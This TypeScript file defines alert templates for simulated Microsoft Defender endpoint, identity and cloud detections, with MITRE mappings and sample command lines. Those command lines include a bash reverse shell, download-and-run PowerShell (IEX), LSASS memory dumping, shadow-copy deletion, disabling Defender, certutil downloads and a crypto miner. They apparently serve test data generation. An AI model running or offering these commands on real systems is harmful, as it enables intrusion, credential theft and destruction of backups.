// Detections on machines and identities: Defender for Endpoint, Defender for
// Identity and Defender for Cloud. Names and MITRE mappings follow the products'
// own alert catalogues; the command lines are the ones those alerts fire on.
import { Products } from "./catalog.js";
import type { AlertTemplate } from "./templates.js";

const MDE = Products.mde;
const MDI = Products.mdi;
const MDC = Products.mdc;

const ISOLATE = ["Isolate the device from the network.", "Run a full antivirus scan.", "Review the process tree in the device timeline."];

export const ENDPOINT_TEMPLATES: readonly AlertTemplate[] = [
  {
    key: "mde-powershell", product: MDE, name: "Suspicious PowerShell command line",
    title: (c) => `Suspicious PowerShell command line on ${c.host.hostName}`,
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Medium",
    description: (c) => `A suspicious PowerShell command line was run on ${c.host.hostName} by ${c.user.accountName}. Attackers use encoded PowerShell to download and run payloads without touching disk.`,
    tactics: ["Execution"], techniques: ["T1059", "T1059.001"],
    kinds: ["Host", "Account", "Process", "Url"],
    process: [
      { image: "powershell.exe", commandLine: (c) => `powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA${c.variant % 97}` },
      { image: "powershell.exe", commandLine: (c) => `powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('${c.url}')"` },
    ],
    remediation: ISOLATE,
  },
  {
    key: "mde-ransomware", product: MDE, name: "Possible ransomware activity",
    title: (c) => `Possible ransomware activity on ${c.host.hostName}`,
    alertType: "WindowsDefenderAtp", focus: "host", severity: "High",
    description: (c) => `Ransomware-like behavior was observed on ${c.host.hostName}: shadow copies were deleted and many files were renamed with a new extension in a short time.`,
    tactics: ["Impact", "DefenseEvasion"], techniques: ["T1486", "T1490"],
    kinds: ["Host", "Account", "FileHash", "File", "Process", "Malware"], file: "ransomware",
    process: [
      { image: "vssadmin.exe", commandLine: () => "vssadmin.exe delete shadows /all /quiet" },
      { image: "wbadmin.exe", commandLine: () => "wbadmin delete catalog -quiet" },
      { image: "bcdedit.exe", commandLine: () => "bcdedit /set {default} recoveryenabled No" },
    ],
    labels: ["ransomware", "VIP"], remediation: ISOLATE,
  },
  {
    key: "mde-lsass", product: MDE, name: "Suspicious access to LSASS service",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "High",
    description: (c) => `A process on ${c.host.hostName} read the memory of the LSASS process, which holds credentials of signed-in users.`,
    tactics: ["CredentialAccess"], techniques: ["T1003", "T1003.001"],
    kinds: ["Host", "Account", "FileHash", "File", "Process"], file: "tool",
    process: [
      { image: "procdump64.exe", commandLine: () => "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp" },
      { image: "rundll32.exe", commandLine: () => "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\out.bin full" },
    ],
  },
  {
    key: "mde-discovery", product: MDE, name: "Suspicious sequence of exploration activities",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Low",
    description: (c) => `A process on ${c.host.hostName} ran a sequence of commands that enumerate users, groups and domain trusts, as attackers do after gaining a foothold.`,
    tactics: ["Discovery"], techniques: ["T1087", "T1069", "T1482"],
    kinds: ["Host", "Account", "Process"],
    process: [
      { image: "net.exe", commandLine: () => 'net.exe group "Domain Admins" /domain' },
      { image: "nltest.exe", commandLine: () => "nltest.exe /domain_trusts /all_trusts" },
      { image: "whoami.exe", commandLine: () => "whoami.exe /all" },
    ],
  },
  {
    key: "mde-wmi", product: MDE, name: "Suspicious remote activity",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Medium",
    description: (c) => `${c.host.hostName} started a process on ${c.host2.hostName} over WMI with credentials of ${c.user.accountName}.`,
    tactics: ["LateralMovement", "Execution"], techniques: ["T1047", "T1021.006"],
    kinds: ["Host", "Host", "Account", "Process"],
    process: [{ image: "wmic.exe", commandLine: (c) => `wmic.exe /node:${c.host2.hostName} process call create "cmd.exe /c C:\\ProgramData\\run.bat"` }],
  },
  {
    key: "mde-runkey", product: MDE, name: "Anomaly detected in ASEP registry",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Medium",
    description: (c) => `A process on ${c.host.hostName} added a program to an autostart registry key, so it runs each time ${c.user.accountName} signs in.`,
    tactics: ["Persistence"], techniques: ["T1547", "T1547.001"],
    kinds: ["Host", "Account", "RegistryKey", "RegistryValue", "Process"], file: "malware",
    registry: { hive: "HKEY_CURRENT_USER", key: "Software\\Microsoft\\Windows\\CurrentVersion\\Run", valueName: "WindowsUpdateHelper", valueData: (c) => `C:\\Users\\${c.user.accountName}\\AppData\\Local\\Temp\\WinUpdate.dll` },
    process: [{ image: "reg.exe", commandLine: () => 'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WindowsUpdateHelper /t REG_SZ /d "rundll32.exe WinUpdate.dll,Start" /f' }],
  },
  {
    key: "mde-malware", product: MDE, name: "'Wacatac' malware was detected",
    title: (c) => `Malware detected on ${c.host.hostName}`,
    alertType: "WindowsDefenderAv", focus: "host", severity: "Low",
    description: (c) => `Microsoft Defender Antivirus detected and quarantined a malicious file on ${c.host.hostName}.`,
    tactics: ["Execution"], techniques: ["T1204", "T1204.002"],
    kinds: ["Host", "FileHash", "File", "Malware"], file: "malware",
  },
  {
    key: "mde-certutil", product: MDE, name: "Suspicious file download using certutil",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Medium",
    description: (c) => `certutil.exe on ${c.host.hostName} downloaded a file from ${c.domain}, a known way to bring tools in past web filters.`,
    tactics: ["CommandAndControl", "DefenseEvasion"], techniques: ["T1105", "T1140"],
    kinds: ["Host", "Account", "Url", "FileHash", "File", "Process"], file: "script",
    process: [{ image: "certutil.exe", commandLine: (c) => `certutil.exe -urlcache -split -f ${c.url} C:\\Windows\\Temp\\update.ps1` }],
  },
  {
    key: "mde-c2", product: MDE, name: "Communication with a Cobalt Strike command and control server",
    title: (c) => `Cobalt Strike beacon on ${c.host.hostName}`,
    alertType: "WindowsDefenderAtp", focus: "host", severity: "High",
    description: (c) => `A process on ${c.host.hostName} connected to ${c.ip.address}, which hosts a Cobalt Strike team server.`,
    tactics: ["CommandAndControl"], techniques: ["T1071", "T1071.001"],
    kinds: ["Host", "Ip", "DnsResolution", "Process"],
    process: [{ image: "rundll32.exe", commandLine: (c) => `rundll32.exe C:\\Users\\${c.user.accountName}\\AppData\\Local\\Temp\\WinUpdate.dll,DllRegisterServer` }],
  },
  {
    key: "mde-tamper", product: MDE, name: "Attempt to turn off Microsoft Defender Antivirus protection",
    alertType: "WindowsDefenderAtp", focus: "host", severity: "Medium",
    description: (c) => `Someone on ${c.host.hostName} tried to turn off real-time protection of Microsoft Defender Antivirus.`,
    tactics: ["DefenseEvasion"], techniques: ["T1562", "T1562.001"],
    kinds: ["Host", "Account", "Process"],
    process: [{ image: "powershell.exe", commandLine: () => "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true" }],
  },
  {
    key: "mde-revshell", product: MDE, name: "Suspicious reverse shell",
    title: (c) => `Reverse shell on ${c.host.hostName}`,
    alertType: "WindowsDefenderAtp", focus: "host", severity: "High", linux: true,
    description: (c) => `A shell on ${c.host.hostName} redirected its input and output to ${c.ip.address}, giving a remote party interactive control.`,
    tactics: ["Execution", "CommandAndControl"], techniques: ["T1059.004", "T1071"],
    kinds: ["Host", "Ip", "Process"],
    process: [{ image: "bash", commandLine: (c) => `bash -i >& /dev/tcp/${c.ip.address}/4444 0>&1` }],
  },
  {
    key: "mdi-dcsync", product: MDI, name: "Suspected DCSync attack (replication of directory services)",
    alertType: "DirectoryServicesReplicationSecurityAlert", focus: "user", severity: "High", targetsDc: true,
    description: (c) => `${c.user.accountName} on ${c.host.hostName} sent a replication request to ${c.dc.hostName}, which can reveal the password hashes of every account.`,
    tactics: ["CredentialAccess"], techniques: ["T1003", "T1003.006"],
    kinds: ["Account", "Host", "Host"],
  },
  {
    key: "mdi-enum", product: MDI, name: "Account enumeration reconnaissance",
    alertType: "AccountEnumerationSecurityAlert", focus: "host", severity: "Medium", targetsDc: true,
    description: (c) => `${c.host.hostName} sent Kerberos requests for many user names to ${c.dc.hostName}; some of them exist.`,
    tactics: ["Discovery"], techniques: ["T1087", "T1087.002"],
    kinds: ["Host", "Host", "Account"],
  },
  {
    key: "mdi-bruteforce", product: MDI, name: "Suspected brute-force attack (Kerberos, NTLM)",
    title: (c) => `Brute-force attack against ${c.user.accountName}`,
    alertType: "BruteForceSecurityAlert", focus: "user", severity: "Medium", targetsDc: true,
    description: (c) => `${c.host.hostName} made many failed authentication attempts against ${c.user.accountName} using NTLM.`,
    tactics: ["CredentialAccess"], techniques: ["T1110", "T1110.001"],
    kinds: ["Account", "Host", "Host"],
  },
  {
    key: "mdi-pth", product: MDI, name: "Suspected identity theft (pass-the-hash)",
    alertType: "PassTheHashSecurityAlert", focus: "user", severity: "High",
    description: (c) => `The credentials of ${c.user.accountName} were used on ${c.host2.hostName} from ${c.host.hostName} with a stolen NTLM hash.`,
    tactics: ["LateralMovement"], techniques: ["T1550", "T1550.002"],
    kinds: ["Account", "Host", "Host"],
  },
  {
    key: "mdi-groups", product: MDI, name: "Suspicious additions to sensitive groups",
    alertType: "AbnormalSensitiveGroupMembershipChangeSecurityAlert", focus: "user", severity: "Medium",
    description: (c) => `${c.user.accountName} added an account to a sensitive group, which grants it administrative rights on the domain.`,
    tactics: ["Persistence", "PrivilegeEscalation"], techniques: ["T1098"],
    kinds: ["Account", "SecurityGroup", "Host"],
  },
  {
    key: "mdc-bruteforce", product: MDC, name: "Successful brute force attack",
    title: (c) => `Successful RDP brute force attack on ${c.host.hostName}`,
    alertType: "VM_LoginBruteForceSuccess", focus: "resource", severity: "High",
    description: (c) => `Several failed sign-ins from ${c.ip.address} were followed by a successful one on ${c.host.hostName}.`,
    tactics: ["CredentialAccess", "InitialAccess"], techniques: ["T1110", "T1078"],
    kinds: ["Host", "Account", "Ip", "AzureResource"],
    remediation: ["Reset the password of the account.", "Block the source IP address at the network security group.", "Enable just-in-time VM access."],
  },
  {
    key: "mdc-storage-tor", product: MDC, name: "Access from a Tor exit node to a storage account",
    alertType: "Storage.Blob_TorAnomaly", focus: "resource", severity: "High",
    description: (c) => `${c.resource.name} was accessed from ${c.ip.address}, a known Tor exit node, without authentication.`,
    tactics: ["InitialAccess", "Exfiltration"], techniques: ["T1078", "T1537"],
    kinds: ["AzureResource", "Ip"],
  },
  {
    key: "mdc-keyvault", product: MDC, name: "Unusual volume of operations in a key vault",
    alertType: "KV_OperationVolumeAnomaly", focus: "resource", severity: "Medium",
    description: (c) => `${c.user.upn} listed and read an unusual number of secrets in ${c.resource.name} from ${c.ip.address}.`,
    tactics: ["CredentialAccess"], techniques: ["T1555"],
    kinds: ["Account", "AzureResource", "Ip"],
  },
  {
    key: "mdc-mining", product: MDC, name: "Digital currency mining related behavior detected",
    title: (c) => `Crypto mining on ${c.host.hostName}`,
    alertType: "VM_DigitalCurrencyMining", focus: "resource", severity: "High", linux: true,
    description: (c) => `A process on ${c.host.hostName} connected to a known mining pool and used most of the CPU for hours.`,
    tactics: ["Impact"], techniques: ["T1496"],
    kinds: ["Host", "FileHash", "File", "Process", "Malware"], file: "miner",
    process: [{ image: "xmrig", commandLine: () => "/tmp/.X11-cache/xmrig -o stratum+tcp://pool.minexmr-example.com:4444 --donate-level 1 -B" }],
    labels: ["crypto-mining"],
  },
  {
    key: "mdc-role", product: MDC, name: "Suspicious Azure role assignment detected",
    alertType: "ARM_AnomalousRBACRoleAssignment", focus: "resource", severity: "Medium",
    description: (c) => `${c.user.upn} assigned the Owner role on ${c.resource.name} to a new principal from ${c.ip.address}, outside their usual pattern.`,
    tactics: ["PrivilegeEscalation", "Persistence"], techniques: ["T1098"],
    kinds: ["Account", "AzureResource", "Ip"],
  },
];
